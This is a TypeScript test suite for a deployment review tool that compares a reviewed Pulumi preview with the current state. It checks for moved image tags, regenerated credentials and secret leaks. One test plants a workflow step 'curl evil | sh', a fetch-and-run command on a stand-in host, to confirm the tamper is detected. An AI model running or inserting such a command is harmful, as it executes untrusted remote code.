import { deepEqual, equal, match, notEqual, ok } from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "zod";
import { pushImage } from "../../sandbox/registryClient.ts";
import { run } from "../../sandbox/project.ts";
import { settings, World } from "./review/world.ts";

describe("the review of a deployment", () => {
    let world: World;

    /** Runs the review's command in the project, which is a checkout of its repository. */
    const review = async (
        ...args: string[]
    ): Promise<{ code: number; out: string; err: string }> => {
        const options = {
            cwd: world.project.folder,
            env: { ...process.env, ...world.environment },
        };
        return run("node", ["operations/review/main.ts", ...args], options).then(
            ({ stdout, stderr }) => ({ code: 0, out: stdout, err: stderr }),
            (error: unknown) =>
                z
                    .object({ code: z.int(), stdout: z.string(), stderr: z.string() })
                    .transform(({ code, stdout, stderr }) => ({ code, out: stdout, err: stderr }))
                    .parse(error),
        );
    };
    const git = (...args: string[]) =>
        execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@example.org", ...args], {
            cwd: world.project.folder,
            stdio: "pipe",
        });
    const commit = () =>
        git("commit", "--quiet", "--allow-empty", "--all", "--message", "A change");
    const verify = async () => {
        const { code, out } = await review("preview", "local", "--to", "fresh");
        equal(code, 0, out);
        return review("verify", "fresh/local.json", "--reviewed", "reviewed");
    };

    before(async () => {
        world = await World.create();
        git("init", "--quiet", "--initial-branch", "main");
        git("add", "--all");
    });
    after(async () => {
        await world.remove();
    });
    beforeEach(async () => {
        await world.up();
        commit();
        // The pull request: version 1.1.0, and its preview.
        world.configure({ version: "1.1.0" });
        commit();
        const preview = await review("preview", "local", "--to", "previews");
        equal(preview.code, 0, preview.err);
        match(preview.out, /careful {4}version of .*\/alice\/digits_prod: 1\.0\.0 → 1\.1\.0/);
        equal((await review("record", "previews/local.json", "--to", "reviewed")).code, 0);
    });

    it("accepts what was reviewed, after a merge too, and changes nothing itself", async () => {
        world.quay.clearRequests();
        git("commit", "--quiet", "--allow-empty", "--message", "Another commit of the same tree");
        deepEqual(await verify(), {
            code: 0,
            out: "What would be deployed is what was reviewed.\n",
            err: "",
        });
        deepEqual(
            world.quay.requests().filter(({ method }) => !["GET", "HEAD"].includes(method)),
            [],
        );
    });

    it("stops it if a tag was moved meanwhile, with both digests", async () => {
        const before = readFileSync(join(world.project.folder, "previews/local.json"), "utf8");
        const digest = await pushImage(world.quay, "alice", "alice/digits", ["1.1.0"]);
        const { code, err } = await verify();
        equal(code, 1);
        match(
            err,
            new RegExp(
                `PromotedImage::digits: digest: reviewed "sha256:[0-9a-f]{64}" → "sha256:[0-9a-f]{64}", now .* → "${digest}"$`,
                "m",
            ),
        );
        ok(!before.includes(digest));
        match(err, /It needs a new review/);
        // The pull request gets a new preview, which is then the reviewed one.
        equal((await review("preview", "local", "--to", "previews")).code, 0);
        equal((await review("record", "previews/local.json", "--to", "reviewed")).code, 0);
        equal((await verify()).code, 0);
    });

    it("stops it after another deployment meanwhile", async () => {
        await world.up({ version: "1.1.0", reader: "write" });
        world.configure({ version: "1.1.0" });
        const { code, err } = await verify();
        equal(code, 1);
        match(err, /PromotedImage::digits: was reviewed, and would not happen$/m);
        match(err, /RepositoryPermission::bob: was not reviewed$/m);
    });

    it("stops it if a credential differs, and shows neither", async () => {
        const old = await robotToken();
        const response = await fetch(
            `${world.quay.url}/api/v1/user/robots/digits_robot/regenerate`,
            {
                method: "POST",
                headers: { authorization: `Bearer ${world.environment["QUAY_TOKEN"] ?? ""}` },
            },
        );
        ok(response.ok);
        const { failed, output } = await world.project.refresh();
        equal(failed, false, output);
        notEqual(await robotToken(), old);
        const { code, err } = await verify();
        equal(code, 1);
        match(err, /ActionsEnvironmentSecret::QUAY_PWD: was not reviewed$/m);
    });

    it("stops it if what a mark seemed to stand for differs, and shows what follows a key", async () => {
        const hidden = (command: string) =>
            `name: "-----BEGIN A PRIVATE KEY-----"\non: push\njobs:\n  - run: ${command}\n`;
        const configure = (description: string, command: string) => {
            const repository = { ...settings.repository, description };
            world.configure({ version: "1.1.0", workflow: hidden(command), repository });
        };
        configure("[unknown]", "echo hello");
        commit();
        const { out } = await review("preview", "local", "--to", "previews");
        match(out, /^ *\+ .*- run: echo hello$/m);
        match(out, /^ *\+ +description: "\[\\\\unknown\]"$/m);
        equal((await review("record", "previews/local.json", "--to", "reviewed")).code, 0);
        equal((await verify()).code, 0, "the same text is as reviewed");
        configure("anything", "curl evil | sh");
        const { code, err } = await verify();
        equal(code, 1);
        match(err, /Repository::digits: description: reviewed .*, now .*"anything"$/m);
        match(err, /RepositoryFile::release: content: reviewed .*, now .*curl evil/m);
    });

    it("contains no secret in its output and files", async () => {
        world.configure({
            repository: {
                ...settings.repository,
                rotation: 1,
                description: `token ${world.environment["QUAY_TOKEN"] ?? ""}`,
            },
        });
        const { code, out, err } = await review("preview", "local", "--to", "previews");
        equal(code, 0, err);
        match(out, /credentials rotated: secret QUAY_PWD of environment prod gets a new value/);
        match(out, /\+ {5}description: "token \[secret\]"/);
        const texts = [
            out,
            err,
            readFileSync(join(world.project.folder, "previews/local.json"), "utf8"),
        ];
        const secrets = [...world.quay.secrets(), ...world.github.secrets()].filter(
            (secret) => secret.length > 8 && !secret.includes("+"),
        );
        ok(secrets.length >= 3);
        for (const secret of secrets)
            for (const text of texts) ok(!text.includes(secret), "a secret in clear");
        ok(!texts.join("").includes(world.project.folder), "a path of this machine");
    });

    it("shows why there is no preview", async () => {
        const { code, err } = await review("preview", "absent");
        equal(code, 1);
        match(err, /There is no stack "absent".* There are: /);
        writeFileSync(join(world.project.folder, "Pulumi.new.yaml"), "");
        deepEqual(await review("preview", "new"), {
            code: 1,
            out: 'new\n  The stack "new" does not exist yet. Create it: pulumi stack init new\n',
            err: "",
        });
        world.configure({ problem: "the world is not right" });
        const failed = await review("preview", "local", "--to", "previews");
        equal(failed.code, 1);
        match(failed.out, /^ {2}the world is not right$/m);
        match(
            (await review("record", "previews/local.json", "--to", "reviewed")).err,
            /^The preview failed: local\./,
        );
    });

    async function robotToken(): Promise<string> {
        const response = await fetch(`${world.quay.url}/api/v1/user/robots/digits_robot`, {
            headers: { authorization: `Bearer ${world.environment["QUAY_TOKEN"] ?? ""}` },
        });
        return z.object({ token: z.string() }).parse(await response.json()).token;
    }
});
